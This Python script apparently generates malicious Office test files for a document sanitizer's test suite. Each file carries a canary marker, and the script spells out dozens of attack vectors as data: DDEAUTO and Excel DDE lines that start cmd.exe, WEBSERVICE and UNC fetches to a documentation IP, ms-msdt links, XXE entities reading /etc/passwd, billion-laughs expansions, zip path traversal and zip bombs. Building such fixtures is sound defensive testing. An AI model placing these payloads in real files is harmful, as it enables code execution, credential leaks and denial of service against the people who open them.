#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Every way that is known to make an Office file reach out, start something or hide something, one a file.

    tools/make_vectors.py FOLDER [STAMP]

The bases are our own good samples (make_docx_samples.py and its two sisters). Upon each: every relationship type there
is, outside and inside, from every part; every address an attack has used; elements that act; field codes cut over runs;
formulas that call or fetch, in every place a workbook has for one; actions of slides; tricks of XML and of zip. A word
VECTOR-nnnn-XXXX stands in each where no output may carry it. tests/check/vectors.py says what must become of them.
"""
import io
import itertools
import os
import re
import struct
import sys
import tempfile
import warnings
import zipfile
from xml.sax.saxutils import escape

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import make_docx_samples  # noqa: E402
import make_pptx_samples  # noqa: E402
import make_xlsx_samples  # noqa: E402

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS = "http://schemas.microsoft.com/office/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships/"
R = 'xmlns:r="%s"' % OFFICE[:-1]
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
LEAF = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "pptx": "ppt/slides/slide1.xml"}

TYPES = [OFFICE + t for t in """aFChunk attachedTemplate audio calcChain chart chartUserShapes chartsheet comments commentAuthors connections
    control ctrlProp customProperties customProperty customXml customXmlProps dialogsheet diagramColors diagramData diagramLayout
    diagramQuickStyle documentSettings drawing endnotes externalLink externalLinkPath externalLinkLong externalLinkMissing
    extended-properties font fontTable footer footnotes frame glossaryDocument handoutMaster header hyperlink image legacyDiagramText
    mailMergeHeaderSource mailMergeRecipientData mailMergeSource media notesMaster notesSlide numbering officeDocument oleObject package
    pivotCacheDefinition pivotCacheRecords pivotTable presProps printerSettings queryTable recipientData revisionHeaders revisionLog
    settings sharedStrings sheetMetadata slide slideLayout slideMaster slideUpdateInfo slideUpdateUrl styles subDocument table
    tableSingleCells tableStyles tags theme themeOverride transform usernames video viewProps vmlDrawing volatileDependencies webSettings
    worksheet xlExternalLinkPath xlMacrosheet xlIntlMacrosheet xmlMaps""".split()]
TYPES += [PACKAGE + t for t in ("metadata/core-properties", "metadata/thumbnail", "digital-signature/origin", "digital-signature/signature")]
TYPES += [MS + t for t in """2006/relationships/vbaProject 2006/relationships/vbaProjectSignature 2006/relationships/wordVbaData
    2006/relationships/ui/extensibility 2007/relationships/ui/extensibility 2006/relationships/ui/userCustomization
    2006/relationships/activeXControlBinary 2006/relationships/attachedToolbars 2006/relationships/keyMapCustomizations
    2006/relationships/legacyDocTextInfo 2006/relationships/xlExternalLinkPath/xlStartup 2006/relationships/xlMacrosheet
    2006/relationships/xlIntlMacrosheet 2006/relationships/smartTags 2006/relationships/recoveredData 2007/relationships/media
    2007/relationships/slicer 2007/relationships/stylesWithEffects 2011/relationships/webextension 2011/relationships/webextensiontaskpanes
    2011/relationships/chartStyle 2011/relationships/people 2011/relationships/commentsExtended 2011/relationships/timeline
    2012/relationships/attachedToolbars 2017/06/relationships/model3d 2017/10/relationships/person 2017/10/relationships/threadedComment
    2020/02/relationships/formControl 2017/06/relationships/rdRichValue 2014/relationships/richTextEdit""".split()]
ADDRESSES = [
    "http://203.0.113.9/%s", "https://203.0.113.9/%s.dotm", "file:///C:/Windows/System32/%s.exe", "file://203.0.113.9/share/%s",
    "\\\\203.0.113.9\\share\\%s.docx", "//203.0.113.9/share/%s", "mhtml:http://203.0.113.9/%s!x-usc:http://203.0.113.9/%s",
    "ms-msdt:/id %s", "search-ms:query=%s", "ms-word:ofe|u|http://203.0.113.9/%s", "javascript:alert('%s')", "vbscript:MsgBox(%s)",
    "data:text/html;base64,%s", "ftp://203.0.113.9/%s", "../../../../%s.dll", "C:\\Users\\Public\\%s.lnk", "res://%s", "ldap://203.0.113.9/%s",
    "http://user:%s@203.0.113.9/", "cid:%s", "about:%s", "shell:%s", "onenote:http://203.0.113.9/%s", "http:\\\\203.0.113.9\\%s",
    "ｆｉｌｅ:///%s", "&#x66;ile:///%s"]

made = {}
planted = itertools.count(1)


def word(where):
    text = "VECTOR-%04d-%s" % (next(planted), re.sub(r"[^A-Za-z0-9]", "", where)[:20])
    return text


def bases():
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "x.pptx")
        make_pptx_samples.basic().write(path)
        with open(path, "rb") as f:
            slides = f.read()
    data = {"docx": make_docx_samples.good_everything().bytes(), "xlsx": make_xlsx_samples.everything().bytes(), "pptx": slides}
    out = {}
    for kind, bytes_ in data.items():
        with zipfile.ZipFile(io.BytesIO(bytes_)) as z:
            out[kind] = {n: z.read(n) for n in z.namelist()}
            # What the samples hide in their own places would be found as well; it is not ours to look for here.
    return out


BASES = {}


class Package:
    def __init__(self, kind):
        self.kind, self.parts = kind, dict(BASES[kind])

    def rels_of(self, source):
        folder, name = os.path.split(source)
        return (folder + "/" if folder else "") + "_rels/" + name + ".rels"

    def rel(self, source, kind, target, external=True, rid="rIdV"):
        name = self.rels_of(source)
        row = '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, kind, target if target.startswith("&#") else escape(target, {'"': "&quot;"}), ' TargetMode="External"' if external else "")
        old = self.parts.get(name, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
        self.parts[name] = old.replace(b"</Relationships>", row.encode() + b"</Relationships>")
        return self

    def part(self, name, data, content_type=None):
        self.parts[name] = data if isinstance(data, bytes) else data.encode()
        if content_type:
            row = '<Override PartName="/%s" ContentType="%s"/></Types>' % (name, content_type)
            self.parts["[Content_Types].xml"] = self.parts["[Content_Types].xml"].replace(b"</Types>", row.encode())
        return self

    def insert(self, before, xml, part=None):
        """Puts xml before the last occurrence of a tag of the leaf part."""
        part = part or LEAF[self.kind]
        text = self.parts[part].decode()
        at = text.rindex(before)
        self.parts[part] = (text[:at] + xml + text[at:]).encode()
        return self

    def bytes(self, **changes):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in self.parts.items():
                z.writestr(zipfile.ZipInfo(name, (2026, 11, 21, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
        return out.getvalue()


def put(name, package):
    assert name not in made, name
    made[name] = package if isinstance(package, bytes) else package.bytes()


BODY_END = {"docx": "<w:sectPr", "xlsx": "</worksheet>", "pptx": "</p:spTree>"}


def relations():
    for kind in MAIN:
        for i, t in enumerate(TYPES):
            short = re.sub(r"\W+", "-", t.split("elationships/")[-1]) + ("-%d" % i if t.startswith(MS) else "")
            address = ADDRESSES[i % len(ADDRESSES)]
            if t == OFFICE + "hyperlink" and address.startswith("http"):
                address = ADDRESSES[2]  # a web address is a link that may stay
            for source in ("", MAIN[kind], LEAF[kind]):
                w = word(short)
                if t == OFFICE + "officeDocument" and not source:
                    continue
                place = {"": "root", MAIN[kind]: "main"}.get(source, "leaf")
                name = "rel-%s-%s.%s" % (short, place, kind)
                if name not in made:
                    put(name, Package(kind).rel(source, t, address.replace("%s", w)))
            w = word(short + "in")
            put("part-%s.%s" % (short, kind), Package(kind).part("custom/%s.bin" % i, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + w.encode() * 3,
                "application/vnd.ms-office." + short).rel(LEAF[kind], t, "/custom/%s.bin" % i, False))


def addresses():
    for kind in MAIN:
        for i, address in enumerate(ADDRESSES):
            if address.startswith(("http://203", "https://203")):
                continue
            for what in ("hyperlink", "image"):
                p = Package(kind).rel(LEAF[kind], OFFICE + what, address.replace("%s", word(what)))
                if kind == "docx":
                    p.insert(BODY_END[kind], '<w:p><w:hyperlink r:id="rIdV"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>' if what == "hyperlink" else
                             '<w:p>%s</w:p>' % make_docx_samples.drawing("rIdV").replace("r:embed", "r:link"))
                elif kind == "xlsx":
                    p.insert("</worksheet>", '<hyperlinks %s><hyperlink ref="A1" r:id="rIdV"/></hyperlinks>' % R if what == "hyperlink" else
                             '<picture %s r:id="rIdV"/>' % R)
                else:
                    p.insert("</p:spTree>", make_pptx_samples.shape(91, "x", click='<a:hlinkClick r:id="rIdV"/>') if what == "hyperlink" else
                             make_pptx_samples.picture(92, "rIdV").replace("r:embed", "r:link"))
                put("address-%02d-%s.%s" % (i, what, kind), p)


ELEMENTS = {
    "docx": ['<w:altChunk r:id="rIdV"/>', '<w:subDoc r:id="rIdV"/>', '<w:p><w:r><w:object><w:control r:id="rIdV" w:name="%s"/></w:object></w:r></w:p>',
             '<w:p><w:r><w:pict><v:rect href="file:///%s" o:href="\\\\h\\%s" onclick="%s"/></w:pict></w:r></w:p>',
             '<w:p><w:r><w:movie r:id="rIdV"/></w:r></w:p>', '<w:p><w:r><w:contentPart r:id="rIdV"/></w:r></w:p>',
             '<w:p><w:r><w:pict><v:shape><v:imagedata r:href="rIdV" src="http://203.0.113.9/%s"/></v:shape></w:pict></w:r></w:p>',
             '<w:p><w:ffData><w:entryMacro w:val="%s"/><w:exitMacro w:val="%s"/></w:ffData></w:p>',
             '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/%s" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>',
             '<w:customXml w:uri="http://203.0.113.9/%s" w:element="e"><w:p/></w:customXml>', '<w:p><w:r><w:binData w:name="%s">QUJD</w:binData></w:r></w:p>',
             '<script xmlns="http://www.w3.org/1999/xhtml">%s</script>', '<svg xmlns="http://www.w3.org/2000/svg" onload="%s"/>',
             '<w:frameset><w:frame><w:sourceFileName r:id="rIdV"/></w:frame></w:frameset>', '<w:p w:%s="1"><w:pPr><w:framePr w:x="%s"/></w:pPr></w:p>'],
    "xlsx": ['<oleObjects><oleObject progId="%s" shapeId="1" r:id="rIdV" %s/></oleObjects>' % ("%s", R), '<controls><control shapeId="1" r:id="rIdV" name="%%s" %s/></controls>' % R,
             '<legacyDrawing r:id="rIdV" %s/>' % R, '<customSheetViews><customSheetView guid="%s"/></customSheetViews>', '<webPublishItems><webPublishItem id="1" divId="%s" sourceType="sheet" destinationFile="\\\\h\\%s"/></webPublishItems>',
             '<extLst><ext uri="{1}"><x14:formula xmlns:x14="u">WEBSERVICE("%s")</x14:formula></ext></extLst>', '<smartTags><cellSmartTags r="A1"/></smartTags>',
             '<customProperties><customPr name="%%s" r:id="rIdV" %s/></customProperties>' % R, '<protectedRanges><protectedRange name="%s" sqref="A1"/></protectedRanges>',
             '<dataConsolidate><dataRefs><dataRef name="%%s" r:id="rIdV" %s/></dataRefs></dataConsolidate>' % R, '<scenarios><scenario name="%s"/></scenarios>',
             '<script xmlns="http://www.w3.org/1999/xhtml">%s</script>'],
    "pptx": ['<p:pic><p:nvPicPr><p:cNvPr id="93" name="x"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="rIdV"/></p:nvPr></p:nvPicPr></p:pic>',
             '<p:graphicFrame><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj progId="%s" r:id="rIdV"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>',
             '<p:contentPart r:id="rIdV"/>', '<script xmlns="http://www.w3.org/1999/xhtml">%s</script>', '<p:custDataLst><p:custData r:id="rIdV"/><p:tags r:id="rIdV"/></p:custDataLst>',
             '<p:sp><p:nvSpPr><p:cNvPr id="94" name="x"><a:hlinkHover r:id="rIdV" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>'],
}


def elements():
    for kind, rows in ELEMENTS.items():
        for i, xml in enumerate(rows):
            while "%s" in xml:
                xml = xml.replace("%s", word("element"), 1)
            p = Package(kind).part("custom/e.bin", word("elementpart") * 3, "application/octet-stream")
            put("element-%02d.%s" % (i, kind), p.rel(LEAF[kind], OFFICE + "oleObject", "/custom/e.bin", False).insert(BODY_END[kind], xml))
            q = Package(kind).rel(LEAF[kind], OFFICE + "oleObject", "\\\\203.0.113.9\\%s" % word("elementext"))
            put("element-ext-%02d.%s" % (i, kind), q.insert(BODY_END[kind], xml))


FIELDS = ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k %s\"", "DDE Excel %s", "INCLUDETEXT \"http://203.0.113.9/%s\"", "INCLUDEPICTURE \"\\\\\\\\h\\\\%s\" \\d",
          "IMPORT \"file:///%s\"", "LINK Excel.Sheet.8 \"\\\\\\\\h\\\\%s\" \"\" \\a", "EMBED Package %s", "DATABASE \\d \"%s\" \\c \"DSN=x\" \\s \"SELECT\"", "MACROBUTTON %s x",
          "GOTOBUTTON %s x", "AUTOTEXT %s", "RD \"\\\\\\\\h\\\\%s\"", "ADDIN %s", "CONTROL %s \\s", "HTMLACTIVEX %s", "PRIVATE %s", "QUOTE 68 68 69 %s",
          "HYPERLINK \"file:///%s\"", "HYPERLINK \"\\\\\\\\h\\\\%s\"", "HYPERLINK \"javascript:%s\"", "HYPERLINK \"http://u:%s@h/\"", "DOCVARIABLE %s", "FILLIN \"%s\"",
          "ASK a \"%s\"", "SET a \"%s\"", "IF 1 = 1 \"%s\" \"\"", "PRINT \"%s\"", "USERNAME %s", "TEMPLATE %s", "BARCODE %s", "MERGEFIELD %s", "IMPORT %s", "GLOSSARY %s"]


def run(text, tag="instrText"):
    return '<w:r><w:%s xml:space="preserve">%s</w:%s></w:r>' % (tag, escape(text), tag)


def mark(kind):
    return '<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind


def fields():
    for i, code in enumerate(FIELDS):
        code = code.replace("%s", word("field"))
        shown = mark("separate") + '<w:r><w:t>x</w:t></w:r>' + mark("end")
        cuts = {"whole": [code], "letters": list(code), "middle": [code[:2], code[2:]], "odd": [code[j:j + 3] for j in range(0, len(code), 3)],
                "case": ["".join(c.swapcase() if j % 2 else c for j, c in enumerate(code))]}
        bodies = {k: "<w:p>" + mark("begin") + "".join(run(c) for c in v) + shown + "</w:p>" for k, v in cuts.items()}
        bodies["simple"] = '<w:p><w:fldSimple w:instr="%s"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>' % escape(code, {'"': "&quot;"})
        bodies["deleted"] = "<w:p>" + mark("begin") + '<w:del w:id="1" w:author="x">%s</w:del>' % run(code, "delInstrText") + shown + "</w:p>"
        bodies["marked"] = "<w:p>" + mark("begin") + run(code[:3]) + '<w:bookmarkStart w:id="77" w:name="z"/><w:proofErr w:type="spellStart"/>' + run(code[3:]) + shown + "</w:p>"
        bodies["nested"] = "<w:p>" + mark("begin") + run("QUOTE ") + mark("begin") + run(code) + shown + shown + "</w:p>"
        bodies["built"] = "<w:p>" + mark("begin") + mark("begin") + run("QUOTE " + code[:3]) + shown + run(code[3:]) + shown + "</w:p>"
        bodies["unended"] = "<w:p>" + mark("begin") + run(code) + "</w:p>"
        bodies["over-paragraphs"] = "<w:p>" + mark("begin") + run(code[:4]) + "</w:p><w:p>" + run(code[4:]) + shown + "</w:p>"
        for how, xml in bodies.items():
            put("field-%02d-%s.docx" % (i, how), Package("docx").insert(BODY_END["docx"], xml))


FORMULAS = ['WEBSERVICE("http://203.0.113.9/%s")', '_xlfn.WEBSERVICE("http://203.0.113.9/%s")', "cmd|'/c %s'!A0", "+cmd|' /c %s'!A0", "'cmd|/c %s'!A0",
            "MSEXCEL|'\\..\\cmd.exe /c %s'!''", 'DDE("soffice","%s","x")', "[1]%s!A1", "'[1]%s'!A1", "'\\\\h\\[%s.xlsx]S'!A1", "'http://h/[%s.xlsx]S'!A1", 'HYPERLINK("file:///%s")',
            'HYPERLINK("\\\\h\\%s")', 'HYPERLINK("http://h/%s?"&A1)', 'RTD("%s",,"x")', 'CALL("%s","WinExec","JCJ","calc",0)', 'REGISTER.ID("%s","x")', 'EXEC("%s")',
            'EVALUATE("%s")', 'GET.CELL(5,"%s")', 'FILES("%s")', 'INDIRECT("\'file:///%s\'#$S.A1")', 'FILTERXML("%s","//x")', 'ENCODEURL("%s")', '_xlfn.IMAGE("http://h/%s")',
            '_xlfn.STOCKHISTORY("%s",1)', 'SQL.REQUEST("%s")', 'CUBEVALUE("%s")', '_xll.%s()', '_xludf.%s(1)', '%s(1)', '[1]!%s(1)', 'WEBSERVICE ("http://h/%s")', 'WEBSERVICE\n("http://h/%s")',
            'ＷＥＢＳＥＲＶＩＣＥ("http://h/%s")', 'webSERVICE("http://h/%s")', '_xlfn._xlws.PY("%s",1)', 'COM.MICROSOFT.WEBSERVICE("%s")', 'IF(TRUE,WEBSERVICE("http://h/%s"))', '_xleta.WEBSERVICE&"%s"',
            'LET(_xlpm.a,WEBSERVICE("%s"),_xlpm.a)', '_xlfn.LAMBDA(_xlpm.x,_xlpm.x("%s"))(WEBSERVICE)']


def formulas():
    for i, text in enumerate(FORMULAS):
        def f():
            return escape(text.replace("%s", word("formula")))
        places = {
            "cell": ("</sheetData>", '<row r="900"><c r="A900"><f>%s</f><v>1</v></c></row>'),
            "array": ("</sheetData>", '<row r="900"><c r="A900"><f t="array" ref="A900:B901">%s</f><v>1</v></c></row>'),
            "shared": ("</sheetData>", '<row r="900"><c r="A900"><f t="shared" ref="A900:A901" si="77">%s</f><v>1</v></c></row><row r="901"><c r="A901"><f t="shared" si="77"/><v>1</v></c></row>'),
            "string": ("</sheetData>", '<row r="900"><c r="A900" t="str"><f ca="1">%s</f><v>x</v></c></row>'),
            "condition": ("</worksheet>", '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="99"><formula>%s</formula></cfRule></conditionalFormatting>'),
            "scale": ("</worksheet>", '<conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="99"><colorScale><cfvo type="formula" val="%s"/><cfvo type="max"/><color rgb="FF0000"/><color rgb="FF00FF"/></colorScale></cfRule></conditionalFormatting>'),
            "validation": ("</worksheet>", '<dataValidations><dataValidation type="list" sqref="A1"><formula1>%s</formula1></dataValidation></dataValidations>'),
            "validation2": ("</worksheet>", '<dataValidations><dataValidation type="whole" operator="between" sqref="A1"><formula1>1</formula1><formula2>%s</formula2></dataValidation></dataValidations>'),
            "place": ("</worksheet>", '<hyperlinks><hyperlink ref="A1" location="%s"/></hyperlinks>'),
        }
        for where, (before, xml) in places.items():
            value = f().replace('"', "&quot;") if where in ("scale", "place") else f()
            put("formula-%02d-%s.xlsx" % (i, where), Package("xlsx").insert(before, xml % value))
        for name in ("bad", "_xlnm.Print_Area", "_xlnm.Auto_Open", "Auto_Close"):
            p = Package("xlsx")
            book = p.parts["xl/workbook.xml"].decode()
            row = '<definedName name="%s"%s>%s</definedName>' % (name, ' localSheetId="1"' if "Print" in name else "", f())
            book = book.replace("</definedNames>", row + "</definedNames>") if "</definedNames>" in book else book.replace("</sheets>", "</sheets><definedNames>" + row + "</definedNames>")
            p.parts["xl/workbook.xml"] = book.encode()
            put("formula-%02d-name-%s.xlsx" % (i, name.strip("_")), p)
        p = Package("xlsx")
        p.parts["xl/tables/table1.xml"] = re.sub(rb"(<tableColumn [^>]*?)/>", lambda m: m.group(1) + b"><calculatedColumnFormula>" + f().encode() +
                                                 b"</calculatedColumnFormula></tableColumn>", p.parts["xl/tables/table1.xml"], count=1)
        put("formula-%02d-column.xlsx" % i, p)


ACTIONS = """ppaction://program ppaction://macro?name=%s ppaction://ole?verb=%s ppaction://hlinkfile ppaction://hlinkpres?slideindex=1&amp;slidetitle=%s
    ppaction://customshow?id=0 ppaction://media ppaction://noaction ppaction://hlinkshowjump?jump=%s PPACTION://PROGRAM javascript:%s file:///%s
    ppaction://hlinksldjump?x=%s""".split()


def actions():
    for i, action in enumerate(ACTIONS):
        for tag in ("hlinkClick", "hlinkHover", "hlinkMouseOver"):
            for target in ("\\\\203.0.113.9\\%s.exe", "file:///C:/%s.exe"):
                a = action.replace("%s", word("action"))
                shape = make_pptx_samples.shape(95, "x").replace('name="図形 95"', 'name="x"')
                shape = re.sub(r"(<p:cNvPr id=\"95\"[^>]*?)/>", r'\1><a:%s r:id="rIdV" action="%s" tgtFrame="%s" invalidUrl="%s" tooltip="t"/></p:cNvPr>' % (
                    tag, a.replace("\\", "\\\\"), word("frame"), word("invalid")), shape, count=1)
                p = Package("pptx").rel(LEAF["pptx"], OFFICE + "hyperlink", target.replace("%s", word("program")))
                put("action-%02d-%s-%s.pptx" % (i, tag, target[:4].strip("\\").replace(".", "") or "unc"), p.insert("</p:spTree>", shape))


def xml_tricks():
    for kind in MAIN:
        for place, part in (("main", MAIN[kind]), ("leaf", LEAF[kind]), ("types", "[Content_Types].xml"), ("rels", "_rels/.rels")):
            def doctype(subset, use=""):
                p = Package(kind)
                text = p.parts[part].decode()
                head, body = re.match(r"(<\?xml.*?\?>\s*)?(.*)", text, re.S).groups()
                root = re.match(r"<([\w:]+)", body).group(1)
                body = body.replace("</" + root + ">", use + "</" + root + ">")
                p.parts[part] = ((head or "") + "<!DOCTYPE %s [%s]>" % (root, subset) + body).encode()
                return p
            w = word("entity")
            tricks = {
                "internal": doctype('<!ENTITY e "%s">' % w, "&e;"), "system": doctype('<!ENTITY e SYSTEM "file:///etc/passwd">', "&e;"),
                "remote": doctype('<!ENTITY e SYSTEM "http://203.0.113.9/%s">' % w, "&e;"),
                "parameter": doctype('<!ENTITY %% p SYSTEM "http://203.0.113.9/%s"> %%p;' % w),
                "laughs": doctype('<!ENTITY a "%s">' % ("ha" * 50) + "".join('<!ENTITY %s "%s">' % (b, ("&%s;" % a) * 10) for a, b in zip("abcdefgh", "bcdefghi")), "&i;"),
                "quadratic": doctype('<!ENTITY a "%s">' % ("a" * 50000), "&a;" * 50000), "attribute": doctype('<!ATTLIST x y CDATA "%s">' % w),
            }
            p = Package(kind)
            p.parts[part] = b'<?xml-stylesheet type="text/xsl" href="http://203.0.113.9/%s"?>' % w.encode() + re.sub(rb"^<\?xml.*?\?>\s*", b"", p.parts[part])
            tricks["stylesheet"] = p
            p = Package(kind)
            p.parts[part] = re.sub(r"^<\?xml.*?\?>", '<?xml version="1.0" encoding="UTF-16"?>', p.parts[part].decode()).encode("utf-16")
            tricks["utf16"] = p
            p = Package(kind)
            p.parts[part] = re.sub(rb"^<\?xml.*?\?>", b'<?xml version="1.0" encoding="UTF-7"?>', p.parts[part])
            tricks["utf7"] = p
            p = Package(kind)
            p.parts[part] = p.parts[part].replace(b"</", b"<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"file:///%s\"/></" % w.encode(), 1)
            tricks["include"] = p
            p = Package(kind)
            p.parts[part] = p.parts[part] + ("<!-- %s --><x>%s</x>" % (w, w)).encode()
            tricks["two-roots"] = p
            for name, package in tricks.items():
                put("xml-%s-%s.%s" % (name, place, kind) if not (place == "leaf" and part == MAIN[kind]) else "xml-%s-body.%s" % (name, kind), package)


def patched(data, name, change):
    """Changes the central and the local header of a member: change(header, central) -> header."""
    out = bytearray(data)
    for sign, fixed, at_name in ((b"PK\x03\x04", 30, 26), (b"PK\x01\x02", 46, 28)):
        at = 0
        while (at := out.find(sign, at)) >= 0:
            n = struct.unpack("<H", out[at + at_name:at + at_name + 2])[0]
            if out[at + fixed:at + fixed + n] == name.encode():
                out[at:at + fixed] = change(bytearray(out[at:at + fixed]), sign == b"PK\x01\x02")
            at += 4
    return bytes(out)


def zip_tricks():
    for kind in MAIN:
        main = MAIN[kind]
        evil = BASES[kind][main].replace(b"</", b"<!-- x --></", 1)

        def with_member(name, data, first=False):
            out = io.BytesIO()
            parts = list(BASES[kind].items())
            parts = [(name, data)] + parts if first else parts + [(name, data)]
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
                    for n, d in parts:
                        z.writestr(zipfile.ZipInfo(n, (2026, 11, 21, 0, 0, 0)), d, zipfile.ZIP_DEFLATED)
            return out.getvalue()
        w = word("zip").encode()
        plain = Package(kind).bytes()
        names = {"twice": main, "case": main.upper(), "backslash": main.replace("/", "\\"), "above": "../../" + main, "absolute": "/" + main, "dot": "./" + main,
                 "drive": "C:/" + main, "nul": main + "\0.txt", "macro": "word/vbaProject.bin", "script": "x.vbs", "twice-types": "[Content_Types].xml",
                 "double": main.replace("/", "//"), "escaped": main.replace(".", "%2e"), "device": "word/CON", "stream": main + ":x", "trailing": main + "/", "nested": "a.docx"}
        for how, name in names.items():
            for first in (False, True):
                put("zip-name-%s-%s.%s" % (how, "first" if first else "last", kind), with_member(name, evil + w if how not in ("macro", "script", "nested") else w * 9, first))
        put("zip-prefix.%s" % kind, b"MZ" + w * 20 + plain)
        put("zip-suffix.%s" % kind, plain + w * 20)
        put("zip-html.%s" % kind, b"<html><script>" + w + b"</script>" + plain)
        put("zip-pdf.%s" % kind, b"%PDF-1.7\n" + w + plain)
        put("zip-comment.%s" % kind, plain[:-2] + struct.pack("<H", len(w)) + w)
        put("zip-encrypted.%s" % kind, patched(plain, main, lambda h, c: h[:8 if c else 6] + bytes([h[8 if c else 6] | 1]) + h[9 if c else 7:]))
        put("zip-method.%s" % kind, patched(plain, main, lambda h, c: h[:10 if c else 8] + b"\x63\0" + h[12 if c else 10:]))
        put("zip-local-size.%s" % kind, patched(plain, main, lambda h, c: h if c else h[:22] + struct.pack("<I", 5) + h[26:]))
        put("zip-central-size.%s" % kind, patched(plain, main, lambda h, c: h[:24] + struct.pack("<I", 0x7FFFFFFF) + h[28:] if c else h))
        put("zip-crc.%s" % kind, patched(plain, main, lambda h, c: h[:16] + b"\1\2\3\4" + h[20:] if c else h[:14] + b"\1\2\3\4" + h[18:]))
        put("zip-offset.%s" % kind, patched(plain, main, lambda h, c: h[:42] + b"\0\0\0\0" if c else h))
        put("zip-bomb.%s" % kind, with_member(("word" if kind == "docx" else "x") + "/big.xml", b"<x>" + b" " * (48 << 20) + w + b"</x>"))
        put("zip-bomb-main.%s" % kind, Package(kind).part(main, BASES[kind][main].replace(b"</", b" " * (96 << 20) + b"</", 1)))
        put("zip-many.%s" % kind, with_many(kind, w))


def with_many(kind, w):
    p = Package(kind)
    for i in range(5000):
        p.parts["x/%d.xml" % i] = w
    return p


def main():
    folder = sys.argv[1]
    BASES.update(bases())
    for make in (relations, addresses, elements, fields, formulas, actions, xml_tricks, zip_tricks):
        make()
    os.makedirs(folder, exist_ok=True)
    for name, data in made.items():
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)
    for kind in MAIN:  # what tests/forged.c begins with
        with open(os.path.join(folder, "base." + kind), "wb") as f:
            f.write(Package(kind).bytes())
    if len(sys.argv) > 2:
        open(sys.argv[2], "w", encoding="ascii").close()
    print(len(made), "files")


if __name__ == "__main__":
    main()
